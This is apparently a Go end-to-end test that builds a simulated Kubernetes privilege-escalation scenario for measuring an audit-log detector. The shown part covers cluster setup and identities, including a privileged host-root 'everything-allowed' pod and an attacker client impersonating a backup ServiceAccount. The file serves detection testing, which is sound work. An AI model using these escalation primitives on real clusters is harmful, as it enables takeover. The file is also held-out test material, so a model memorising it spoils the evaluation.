package e2e

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net"
	"net/http"
	"os"
	"sort"
	"strings"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	batchv1 "k8s.io/api/batch/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	policyv1 "k8s.io/api/policy/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/apiguard/apiguard/test/e2e/lab"
)

// Held-out scenario 5: a contractor's leaked namespace-admin kubeconfig in
// a multi-tenant cluster, escalated through an over-privileged backup
// ServiceAccount to Argo CD's cluster-admin "argocd-manager" token. The
// playbook (identities, addresses, the table of attack and benign steps and
// their public sources) is testdata/heldout5/README.md. The test only
// asserts that every step executed as scripted; it reports the detection
// rate and the high/critical alerts on benign steps without asserting them.

// Source addresses (X-Forwarded-For; loopback addresses stand for places).
const (
	h5IPAttacker      = "127.66.23.9"  // attacker VPS (bulletproof hosting)
	h5IPAttacker2     = "127.66.41.3"  // second attacker VPS
	h5IPTor           = "127.66.77.4"  // Tor exit node
	h5IPContractorVPN = "127.21.14.7"  // vendor site-to-site VPN egress (Northwind Consulting)
	h5IPSRE           = "127.20.1.33"  // corporate office / VPN, SRE laptop
	h5IPAuditor       = "127.20.9.50"  // security team scanner host
	h5IPArgoCD        = "127.30.0.12"  // Argo CD hub (management) cluster egress NAT
	h5IPPlatformCI    = "127.40.2.20"  // platform GitLab runner
	h5IPPaymentsCI    = "127.40.8.11"  // payments team self-hosted GitHub Actions runner
	h5IPNode          = "127.10.0.2"   // node network: lab-control-plane's kubelet
	h5IPBackupPod     = "127.10.4.21"  // pod network: payments/db-backup CronJob pod
	h5IPCertManager   = "127.10.5.14"  // pod network: cert-manager controller
	h5IPCAInjector    = "127.10.5.15"  // pod network: cert-manager cainjector
	h5IPSealedSecrets = "127.10.5.31"  // pod network: sealed-secrets controller
	h5IPKSM           = "127.10.6.8"   // pod network: kube-state-metrics
	h5ExternalIP      = "203.0.113.50" // the payment gateway's public address (documentation range)
)

// User agents.
const (
	h5UAContractor    = "kubectl/v1.30.4 (darwin/arm64) kubernetes/a51b3b7"
	h5UAAttacker      = "kubectl/v1.32.1 (linux/amd64) kubernetes/e9c9be4"
	h5UAAttackerKubel = "kubelet/v1.31.0 (linux/amd64) kubernetes/9edcffc"
	h5UAArgoCD        = "argocd-application-controller/v2.13.3+a25c8a0 (linux/amd64)"
	h5UACertManager   = "cert-manager-certificates-issuing/v1.16.2 (linux/amd64) cert-manager/6d5e3fa8"
	h5UACAInjector    = "cert-manager-cainjector/v1.16.2 (linux/amd64) cert-manager/6d5e3fa8"
	h5UASealedSecrets = "controller/v0.27.3 (linux/amd64) kubernetes/$Format"
	h5UAKSM           = "kube-state-metrics/v2.13.0 (linux/amd64) kubernetes/8e4b9a1"
	h5UABackup        = "secret-backup/1.4.2 (linux/amd64) platform-tools/3c1e0f2"
	h5UASRE           = "kubectl/v1.31.4 (darwin/arm64) kubernetes/a78aa47"
	h5UAAuditor       = "kubescape/v3.0.21 (linux/amd64)"
	h5UANode          = "kubelet/v1.36.3 (linux/amd64) kubernetes/lab"
	h5UAHelm          = "Helm/3.16.3"
	h5UAPaymentsCI    = "kubectl/v1.31.0 (linux/amd64) kubernetes/7c48c2b"
)

const (
	h5NS             = "payments"
	h5Contractor     = "ext-dsilva@northwind-consulting.com"
	h5TenantGroup    = "tenant:payments:admins"
	h5ArgoSecret     = "argocd-manager-long-lived-token"
	h5BootstrapID    = "h5k9zq"
	h5BootstrapToken = "7x2mq9w4c8v1b6n3"
	h5Corefile       = `.:53 {
    errors
    health {
       lameduck 5s
    }
    ready
    kubernetes cluster.local in-addr.arpa ip6.arpa {
       pods insecure
       fallthrough in-addr.arpa ip6.arpa
       ttl 30
    }
    prometheus :9153
    forward . /etc/resolv.conf {
       max_concurrent 1000
    }
    cache 30
    loop
    reload
    loadbalance
}
`
)

// h5Step is one step of the script: who does what, and the check that it
// happened as scripted (an error fails the test).
type h5Step struct {
	ID        string
	Kind      string // "attack" or "benign"
	Technique string
	run       func(ctx context.Context) error
}

type h5StepResult struct {
	ID        string         `json:"id"`
	Kind      string         `json:"kind"`
	Technique string         `json:"technique"`
	Detected  bool           `json:"detected"`
	Alerts    int            `json:"alerts"`
	Rules     []string       `json:"rules"`
	Severity  map[string]int `json:"severity,omitempty"`
	HighRules []string       `json:"highRules,omitempty"`
}

type h5Summary struct {
	Scenario           string         `json:"scenario"`
	Command            string         `json:"command"`
	AttackSteps        int            `json:"attackSteps"`
	Detected           int            `json:"detected"`
	DetectionRate      float64        `json:"detectionRate"`
	Missed             []string       `json:"missed"`
	BenignSteps        int            `json:"benignSteps"`
	BenignHighAlerts   int            `json:"benignHighAlerts"`
	BenignHighSteps    []string       `json:"benignHighSteps"`
	UnattributedAlerts int            `json:"unattributedAlerts"`
	ScanExitCode       int            `json:"scanExitCode"`
	RunSeconds         float64        `json:"runSeconds"`
	Steps              []h5StepResult `json:"steps"`
}

// h5Forbidden checks that err is the intended 403.
func h5Forbidden(err error) error {
	if err == nil {
		return fmt.Errorf("allowed, want 403 Forbidden")
	}
	if !apierrors.IsForbidden(err) {
		return fmt.Errorf("want 403 Forbidden, got %v", err)
	}
	return nil
}

// h5Authorized checks that a request passed authentication and
// authorization (it may fail after, in the lab without kubelets).
func h5Authorized(code int, err error) error {
	if code == http.StatusUnauthorized || code == http.StatusForbidden || apierrors.IsUnauthorized(err) || apierrors.IsForbidden(err) {
		return fmt.Errorf("not authorized (HTTP %d): %v", code, err)
	}
	if code == 0 && err != nil {
		return err
	}
	return nil
}

// h5Retry calls f until it returns nil, an error retry does not accept, or d passed.
func h5Retry(d time.Duration, retry func(error) bool, f func() error) error {
	deadline := time.Now().Add(d)
	for {
		err := f()
		if err == nil || !retry(err) || time.Now().After(deadline) {
			return err
		}
		time.Sleep(300 * time.Millisecond)
	}
}

// h5CSR returns a new EC key (PEM) and a PEM certificate request for it.
func h5CSR(cn string, orgs, dns []string, ips []net.IP) (keyPEM, csrPEM []byte, err error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, nil, err
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{
		Subject:     pkix.Name{CommonName: cn, Organization: orgs},
		DNSNames:    dns,
		IPAddresses: ips,
	}, key)
	if err != nil {
		return nil, nil, err
	}
	kder, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		return nil, nil, err
	}
	return pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kder}),
		pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}), nil
}

func h5Deployment(ns, name string, replicas int32, labels map[string]string, spec corev1.PodSpec) *appsv1.Deployment {
	return &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: labels},
		Spec: appsv1.DeploymentSpec{
			Replicas: &replicas,
			Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: spec},
		},
	}
}

// h5EverythingAllowedPod is Bad Pods' "everything-allowed" pod.
func h5EverythingAllowedPod(ns, name string) *corev1.Pod {
	yes := true
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: map[string]string{"app": name}},
		Spec: corev1.PodSpec{
			HostPID: true, HostNetwork: true, HostIPC: true,
			Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
			Containers: []corev1.Container{{
				Name: name, Image: "docker.io/library/ubuntu:22.04",
				Command:         []string{"/bin/sh", "-c", "--"},
				Args:            []string{"while true; do sleep 30; done;"},
				SecurityContext: &corev1.SecurityContext{Privileged: &yes},
				VolumeMounts:    []corev1.VolumeMount{{Name: "noderoot", MountPath: "/host"}},
			}},
			Volumes: []corev1.Volume{{Name: "noderoot", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}},
		},
	}
}

// h5HelmRelease is a Helm 3 release record (Helm stores releases as Secrets).
func h5HelmRelease(ns, release string, version int, status string) *corev1.Secret {
	return &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{
			Name: fmt.Sprintf("sh.helm.release.v1.%s.v%d", release, version), Namespace: ns,
			Labels: map[string]string{"name": release, "owner": "helm", "status": status, "version": fmt.Sprint(version)},
		},
		Type: "helm.sh/release.v1",
		Data: map[string][]byte{"release": []byte(fmt.Sprintf("H4sIAAAAAAAC/+y9a3PbOJYw/H1/BUpTW21nLImkLra1lZpybHeP34ntrOV0b1cqpYJIyGJMEWoQtK1O5b8/BS%s%d", release, version))},
	}
}

// h5HelmUpgrade does what `helm upgrade` does around its patches: read the
// release history, mark the previous release superseded, record the new one.
func h5HelmUpgrade(ctx context.Context, cs kubernetes.Interface, ns, release string, version int, patch func() error) error {
	if _, err := cs.CoreV1().Secrets(ns).List(ctx, metav1.ListOptions{LabelSelector: "owner=helm,name=" + release}); err != nil {
		return err
	}
	if err := patch(); err != nil {
		return err
	}
	if _, err := cs.CoreV1().Secrets(ns).Create(ctx, h5HelmRelease(ns, release, version, "deployed"), metav1.CreateOptions{}); err != nil {
		return err
	}
	prev, err := cs.CoreV1().Secrets(ns).Get(ctx, fmt.Sprintf("sh.helm.release.v1.%s.v%d", release, version-1), metav1.GetOptions{})
	if err != nil {
		return err
	}
	prev.Labels["status"] = "superseded"
	_, err = cs.CoreV1().Secrets(ns).Update(ctx, prev, metav1.UpdateOptions{})
	return err
}

func h5GatekeeperWebhook() *admissionregistrationv1.ValidatingWebhookConfiguration {
	ignore := admissionregistrationv1.Ignore
	none := admissionregistrationv1.SideEffectClassNone
	timeout := int32(3)
	path := "/v1/admitlabel"
	return &admissionregistrationv1.ValidatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: "gatekeeper-validating-webhook-configuration", Labels: map[string]string{"gatekeeper.sh/system": "yes"}},
		Webhooks: []admissionregistrationv1.ValidatingWebhook{{
			Name:                    "check-ignore-label.gatekeeper.sh",
			ClientConfig:            admissionregistrationv1.WebhookClientConfig{Service: &admissionregistrationv1.ServiceReference{Namespace: "gatekeeper-system", Name: "gatekeeper-webhook-service", Path: &path}},
			Rules:                   []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update}, Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"*"}, Resources: []string{"namespaces"}}}},
			FailurePolicy:           &ignore,
			SideEffects:             &none,
			TimeoutSeconds:          &timeout,
			AdmissionReviewVersions: []string{"v1", "v1beta1"},
		}},
	}
}

// TestAuditHeldOut5 runs the held-out scenario 5 against the Hardened lab
// and reports (without asserting) what `apiguard audit scan` detects.
func TestAuditHeldOut5(t *testing.T) {
	start := time.Now()
	ctx := context.Background()
	c := lab.Start(t, lab.Hardened)
	c.WaitAggregated(t)
	super := lab.Client(t, c.SuperAdminKubeconfig) // unrecorded: setup only
	rec := &auditRecorder{steps: map[string]string{}}

	// ---- setup (super-admin, not recorded) ----
	must := func(what string, err error) {
		t.Helper()
		if err != nil && !apierrors.IsAlreadyExists(err) {
			t.Fatalf("setup: %s: %v", what, err)
		}
	}
	for name, labels := range map[string]map[string]string{
		h5NS:                {"tenant": "payments"},
		"cert-manager":      nil,
		"falco":             {"pod-security.kubernetes.io/enforce": "privileged"},
		"ingress-nginx":     nil,
		"gatekeeper-system": nil,
		"monitoring":        nil,
		"platform-ci":       nil,
		"external-secrets":  nil,
	} {
		_, err := super.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: labels}}, metav1.CreateOptions{})
		must("namespace "+name, err)
	}
	for _, sa := range [][2]string{
		{h5NS, "db-backup"}, {h5NS, "payments-api"}, {h5NS, "gha-deployer"},
		{"cert-manager", "cert-manager"}, {"cert-manager", "cert-manager-cainjector"},
		{"kube-system", "sealed-secrets-controller"}, {"kube-system", "argocd-manager"},
		{"monitoring", "kube-state-metrics"}, {"platform-ci", "helm-deployer"},
	} {
		_, err := super.CoreV1().ServiceAccounts(sa[0]).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: sa[1], Namespace: sa[0]}}, metav1.CreateOptions{})
		must("serviceaccount "+sa[0]+"/"+sa[1], err)
	}
	saSubject := func(ns, name string) []rbacv1.Subject {
		return []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Namespace: ns, Name: name}}
	}
	groupSubject := func(g string) []rbacv1.Subject {
		return []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: g}}
	}
	read := []string{"get", "list", "watch"}
	clusterRoles := []*rbacv1.ClusterRole{
		{ObjectMeta: metav1.ObjectMeta{Name: "argocd-manager-role"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}},
			{NonResourceURLs: []string{"*"}, Verbs: []string{"*"}},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "platform:backup-reader"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"secrets", "configmaps", "persistentvolumeclaims", "namespaces"}, Verbs: read},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "cert-manager-controller-certificates"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get", "list", "watch", "create", "update", "patch", "delete"}},
			{APIGroups: []string{""}, Resources: []string{"events"}, Verbs: []string{"create", "patch"}},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "cert-manager-cainjector"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{"admissionregistration.k8s.io"}, Resources: []string{"validatingwebhookconfigurations", "mutatingwebhookconfigurations"}, Verbs: []string{"get", "list", "watch", "update", "patch"}},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "secrets-unsealer"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"secrets"}, Verbs: []string{"get", "list", "watch", "create", "update", "delete"}},
			{APIGroups: []string{""}, Resources: []string{"events"}, Verbs: []string{"create", "patch"}},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "kube-state-metrics"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"pods", "nodes", "namespaces", "services", "persistentvolumeclaims"}, Verbs: []string{"list", "watch"}},
			{APIGroups: []string{"apps"}, Resources: []string{"deployments", "daemonsets", "statefulsets", "replicasets"}, Verbs: []string{"list", "watch"}},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "security:rbac-reader"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{"rbac.authorization.k8s.io"}, Resources: []string{"roles", "rolebindings", "clusterroles", "clusterrolebindings"}, Verbs: read},
		}},
		{ObjectMeta: metav1.ObjectMeta{Name: "ingress-nginx"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{""}, Resources: []string{"configmaps", "endpoints", "nodes", "pods", "secrets", "namespaces"}, Verbs: []string{"list", "watch"}},
			{APIGroups: []string{"networking.k8s.io"}, Resources: []string{"ingresses", "ingressclasses"}, Verbs: read},
		}},
	}
	for _, cr := range clusterRoles {
		_, err := super.RbacV1().ClusterRoles().Create(ctx, cr, metav1.CreateOptions{})
		must("clusterrole "+cr.Name, err)
	}
	crbs := []*rbacv1.ClusterRoleBinding{
		{ObjectMeta: metav1.ObjectMeta{Name: "argocd-manager-role-binding"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "argocd-manager-role"}, Subjects: saSubject("kube-system", "argocd-manager")},
		{ObjectMeta: metav1.ObjectMeta{Name: "platform:backup-reader"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "platform:backup-reader"}, Subjects: saSubject(h5NS, "db-backup")},
		{ObjectMeta: metav1.ObjectMeta{Name: "cert-manager-controller-certificates"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cert-manager-controller-certificates"}, Subjects: saSubject("cert-manager", "cert-manager")},
		{ObjectMeta: metav1.ObjectMeta{Name: "cert-manager-cainjector"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cert-manager-cainjector"}, Subjects: saSubject("cert-manager", "cert-manager-cainjector")},
		{ObjectMeta: metav1.ObjectMeta{Name: "sealed-secrets-controller"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "secrets-unsealer"}, Subjects: saSubject("kube-system", "sealed-secrets-controller")},
		{ObjectMeta: metav1.ObjectMeta{Name: "kube-state-metrics"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "kube-state-metrics"}, Subjects: saSubject("monitoring", "kube-state-metrics")},
		{ObjectMeta: metav1.ObjectMeta{Name: "platform-ci-helm"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"}, Subjects: saSubject("platform-ci", "helm-deployer")},
		{ObjectMeta: metav1.ObjectMeta{Name: "platform-sre"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"}, Subjects: groupSubject("platform:sre")},
		{ObjectMeta: metav1.ObjectMeta{Name: "security-auditors-view"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "view"}, Subjects: groupSubject("security:auditors")},
		{ObjectMeta: metav1.ObjectMeta{Name: "security-auditors-rbac"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "security:rbac-reader"}, Subjects: groupSubject("security:auditors")},
		// kubeadm init: bootstrap tokens may create node CSRs (TLS bootstrapping).
		{ObjectMeta: metav1.ObjectMeta{Name: "kubeadm:kubelet-bootstrap"}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "system:node-bootstrapper"}, Subjects: groupSubject("system:bootstrappers:kubeadm:default-node-token")},
	}
	for _, b := range crbs {
		_, err := super.RbacV1().ClusterRoleBindings().Create(ctx, b, metav1.CreateOptions{})
		must("clusterrolebinding "+b.Name, err)
	}
	for _, rb := range []*rbacv1.RoleBinding{
		{ObjectMeta: metav1.ObjectMeta{Name: "tenant-admins", Namespace: h5NS}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "admin"}, Subjects: groupSubject(h5TenantGroup)},
		{ObjectMeta: metav1.ObjectMeta{Name: "gha-deployer", Namespace: h5NS}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "edit"}, Subjects: saSubject(h5NS, "gha-deployer")},
	} {
		_, err := super.RbacV1().RoleBindings(rb.Namespace).Create(ctx, rb, metav1.CreateOptions{})
		must("rolebinding "+rb.Name, err)
	}
	tlsData := func(gen string) map[string][]byte {
		return map[string][]byte{
			"tls.crt": []byte("-----BEGIN CERTIFICATE-----\nMIIB" + gen + "\n-----END CERTIFICATE-----\n"),
			"tls.key": []byte("-----BEGIN EC PRIVATE KEY-----\nMHcC" + gen + "\n-----END EC PRIVATE KEY-----\n"),
		}
	}
	for _, s := range []*corev1.Secret{
		{ObjectMeta: metav1.ObjectMeta{Name: "stripe-api-keys", Namespace: h5NS}, StringData: map[string]string{"STRIPE_SECRET_KEY": "sk_live_51H5heldout5", "STRIPE_WEBHOOK_SECRET": "whsec_h5"}},
		{ObjectMeta: metav1.ObjectMeta{Name: "checkout-tls", Namespace: h5NS, Annotations: map[string]string{"cert-manager.io/certificate-name": "checkout-tls"}}, Type: corev1.SecretTypeTLS, Data: tlsData("gen1")},
		{ObjectMeta: metav1.ObjectMeta{Name: "internal-ca-key-pair", Namespace: "cert-manager"}, Type: corev1.SecretTypeTLS, Data: tlsData("ca1")},
		{ObjectMeta: metav1.ObjectMeta{Name: h5ArgoSecret, Namespace: "kube-system", Annotations: map[string]string{corev1.ServiceAccountNameKey: "argocd-manager"}}, Type: corev1.SecretTypeServiceAccountToken},
		h5HelmRelease("falco", "falco", 1, "deployed"),
		h5HelmRelease("ingress-nginx", "ingress-nginx", 1, "deployed"),
		h5HelmRelease("gatekeeper-system", "gatekeeper", 1, "deployed"),
	} {
		_, err := super.CoreV1().Secrets(s.Namespace).Create(ctx, s, metav1.CreateOptions{})
		must("secret "+s.Name, err)
	}
	for _, cm := range []*corev1.ConfigMap{
		{ObjectMeta: metav1.ObjectMeta{Name: "checkout-config", Namespace: h5NS}, Data: map[string]string{"PAYMENT_PROVIDER": "stripe", "FEATURE_NEW_3DS": "false"}},
		{ObjectMeta: metav1.ObjectMeta{Name: "coredns", Namespace: "kube-system"}, Data: map[string]string{"Corefile": h5Corefile}},
	} {
		_, err := super.CoreV1().ConfigMaps(cm.Namespace).Create(ctx, cm, metav1.CreateOptions{})
		must("configmap "+cm.Name, err)
	}
	yes := true
	appPod := func(name, image string) corev1.PodSpec {
		return corev1.PodSpec{Containers: []corev1.Container{{Name: name, Image: image, Ports: []corev1.ContainerPort{{ContainerPort: 8080}}}}}
	}
	for _, d := range []*appsv1.Deployment{
		h5Deployment(h5NS, "checkout", 2, map[string]string{"app": "checkout"}, appPod("checkout", "ghcr.io/acme-pay/checkout:1.42.0")),
		h5Deployment("kube-system", "coredns", 2, map[string]string{"k8s-app": "kube-dns"}, corev1.PodSpec{
			Containers: []corev1.Container{{Name: "coredns", Image: "registry.k8s.io/coredns/coredns:v1.11.3", Args: []string{"-conf", "/etc/coredns/Corefile"},
				VolumeMounts: []corev1.VolumeMount{{Name: "config-volume", MountPath: "/etc/coredns", ReadOnly: true}}}},
			Volumes: []corev1.Volume{{Name: "config-volume", VolumeSource: corev1.VolumeSource{ConfigMap: &corev1.ConfigMapVolumeSource{LocalObjectReference: corev1.LocalObjectReference{Name: "coredns"}}}}},
		}),
		h5Deployment("ingress-nginx", "ingress-nginx-controller", 2, map[string]string{"app.kubernetes.io/name": "ingress-nginx", "app.kubernetes.io/component": "controller"}, corev1.PodSpec{
			Containers: []corev1.Container{{Name: "controller", Image: "registry.k8s.io/ingress-nginx/controller:v1.11.3", Args: []string{"/nginx-ingress-controller", "--election-id=ingress-nginx-leader", "--controller-class=k8s.io/ingress-nginx"}}},
		}),
	} {
		_, err := super.AppsV1().Deployments(d.Namespace).Create(ctx, d, metav1.CreateOptions{})
		must("deployment "+d.Name, err)
	}
	falcoLabels := map[string]string{"app.kubernetes.io/name": "falco", "app.kubernetes.io/instance": "falco"}
	falcoHostPath := func(name, path string) corev1.Volume {
		return corev1.Volume{Name: name, VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: path}}}
	}
	_, err := super.AppsV1().DaemonSets("falco").Create(ctx, &appsv1.DaemonSet{
		ObjectMeta: metav1.ObjectMeta{Name: "falco", Namespace: "falco", Labels: map[string]string{"helm.sh/chart": "falco-4.12.0", "app.kubernetes.io/managed-by": "Helm"}},
		Spec: appsv1.DaemonSetSpec{
			Selector: &metav1.LabelSelector{MatchLabels: falcoLabels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: falcoLabels}, Spec: corev1.PodSpec{
				ServiceAccountName: "default",
				Tolerations:        []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
				Containers: []corev1.Container{{Name: "falco", Image: "docker.io/falcosecurity/falco:0.39.1",
					Args:            []string{"/usr/bin/falco", "-o", "engine.kind=modern_ebpf"},
					SecurityContext: &corev1.SecurityContext{Privileged: &yes},
					VolumeMounts: []corev1.VolumeMount{{Name: "proc-fs", MountPath: "/host/proc", ReadOnly: true}, {Name: "dev-fs", MountPath: "/host/dev", ReadOnly: true},
						{Name: "etc-fs", MountPath: "/host/etc", ReadOnly: true}, {Name: "containerd-socket", MountPath: "/host/run/containerd/"}}}},
				Volumes: []corev1.Volume{falcoHostPath("proc-fs", "/proc"), falcoHostPath("dev-fs", "/dev"), falcoHostPath("etc-fs", "/etc"), falcoHostPath("containerd-socket", "/run/containerd")},
			}},
		},
	}, metav1.CreateOptions{})
	must("daemonset falco", err)
	_, err = super.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, h5GatekeeperWebhook(), metav1.CreateOptions{})
	must("gatekeeper webhook", err)

	// Waits for what kube-controller-manager creates: default ServiceAccounts,
	// its own controller ServiceAccounts, the argocd-manager token.
	var argoToken string
	eventually(t, 60*time.Second, "controller-created ServiceAccounts and the argocd-manager token", func() (bool, string) {
		for _, sa := range [][2]string{{h5NS, "default"}, {"kube-system", "default"}, {"kube-system", "clusterrole-aggregation-controller"}} {
			if _, err := super.CoreV1().ServiceAccounts(sa[0]).Get(ctx, sa[1], metav1.GetOptions{}); err != nil {
				return false, sa[0] + "/" + sa[1] + ": " + err.Error()
			}
		}
		s, err := super.CoreV1().Secrets("kube-system").Get(ctx, h5ArgoSecret, metav1.GetOptions{})
		if err != nil || len(s.Data["token"]) == 0 {
			return false, fmt.Sprintf("argocd-manager token not populated (%v)", err)
		}
		argoToken = string(s.Data["token"])
		return true, ""
	})
	for _, p := range []*corev1.Pod{
		{ObjectMeta: metav1.ObjectMeta{Name: "postgres-0", Namespace: h5NS, Labels: map[string]string{"app": "postgres"}}, Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "postgres", Image: "docker.io/library/postgres:16.4", Ports: []corev1.ContainerPort{{ContainerPort: 5432}}}}}},
		{ObjectMeta: metav1.ObjectMeta{Name: "checkout-legacy", Namespace: h5NS, Labels: map[string]string{"app": "checkout-legacy"}}, Spec: appPod("checkout", "ghcr.io/acme-pay/checkout:1.38.0")},
		{ObjectMeta: metav1.ObjectMeta{Name: "kube-proxy-7xk2p", Namespace: "kube-system", Labels: map[string]string{"k8s-app": "kube-proxy"}}, Spec: corev1.PodSpec{
			NodeName: c.NodeName, HostNetwork: true, Tolerations: []corev1.Toleration{{Operator: corev1.TolerationOpExists}},
			Containers: []corev1.Container{{Name: "kube-proxy", Image: "registry.k8s.io/kube-proxy:" + lab.KubernetesVersion, Command: []string{"/usr/local/bin/kube-proxy", "--config=/var/lib/kube-proxy/config.conf"}, SecurityContext: &corev1.SecurityContext{Privileged: &yes}}},
		}},
	} {
		_, err := super.CoreV1().Pods(p.Namespace).Create(ctx, p, metav1.CreateOptions{})
		must("pod "+p.Name, err)
	}
	mintToken := func(ns, name string) string {
		t.Helper()
		exp := int64(3600)
		tr, err := super.CoreV1().ServiceAccounts(ns).CreateToken(ctx, name, &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: &exp}}, metav1.CreateOptions{})
		if err != nil {
			t.Fatalf("setup: token for %s/%s: %v", ns, name, err)
		}
		return tr.Status.Token
	}

	// ---- identities (clients recorded by rec) ----
	mk := func(cfg *rest.Config, xff, ua string) kubernetes.Interface {
		t.Helper()
		w := rec.wrap(cfg, xff)
		w.UserAgent = ua
		cs, err := kubernetes.NewForConfig(w)
		if err != nil {
			t.Fatal(err)
		}
		return cs
	}
	tokenCfg := func(label, token string) *rest.Config {
		return lab.RESTConfig(t, c.TokenKubeconfig(t, label, token))
	}
	contractorKC := c.UserKubeconfig(t, h5Contractor, h5TenantGroup, "contractors")
	contractor := mk(lab.RESTConfig(t, contractorKC), h5IPContractorVPN, h5UAContractor)
	atkContractor := mk(lab.RESTConfig(t, contractorKC), h5IPAttacker, h5UAAttacker)
	impCfg := lab.RESTConfig(t, contractorKC)
	impCfg.Impersonate = rest.ImpersonationConfig{UserName: "system:serviceaccount:" + h5NS + ":db-backup"}
	atkImpersonating := mk(impCfg, h5IPAttacker, h5UAAttacker)
	sre := mk(lab.RESTConfig(t, c.UserKubeconfig(t, "maria.okafor@acme-pay.com", "platform:sre")), h5IPSRE, h5UASRE)
	auditor := mk(lab.RESTConfig(t, c.UserKubeconfig(t, "svc-kubescape", "security:auditors")), h5IPAuditor, h5UAAuditor)
	node := mk(lab.RESTConfig(t, c.UserKubeconfig(t, "system:node:"+c.NodeName, "system:nodes")), h5IPNode, h5UANode)
	argo := mk(tokenCfg("argocd-manager", argoToken), h5IPArgoCD, h5UAArgoCD)
	backup := mk(tokenCfg("db-backup-pod", mintToken(h5NS, "db-backup")), h5IPBackupPod, h5UABackup)
	certManager := mk(tokenCfg("cert-manager", mintToken("cert-manager", "cert-manager")), h5IPCertManager, h5UACertManager)
	caInjector := mk(tokenCfg("cert-manager-cainjector", mintToken("cert-manager", "cert-manager-cainjector")), h5IPCAInjector, h5UACAInjector)
	sealed := mk(tokenCfg("sealed-secrets", mintToken("kube-system", "sealed-secrets-controller")), h5IPSealedSecrets, h5UASealedSecrets)
	ksm := mk(tokenCfg("kube-state-metrics", mintToken("monitoring", "kube-state-metrics")), h5IPKSM, h5UAKSM)
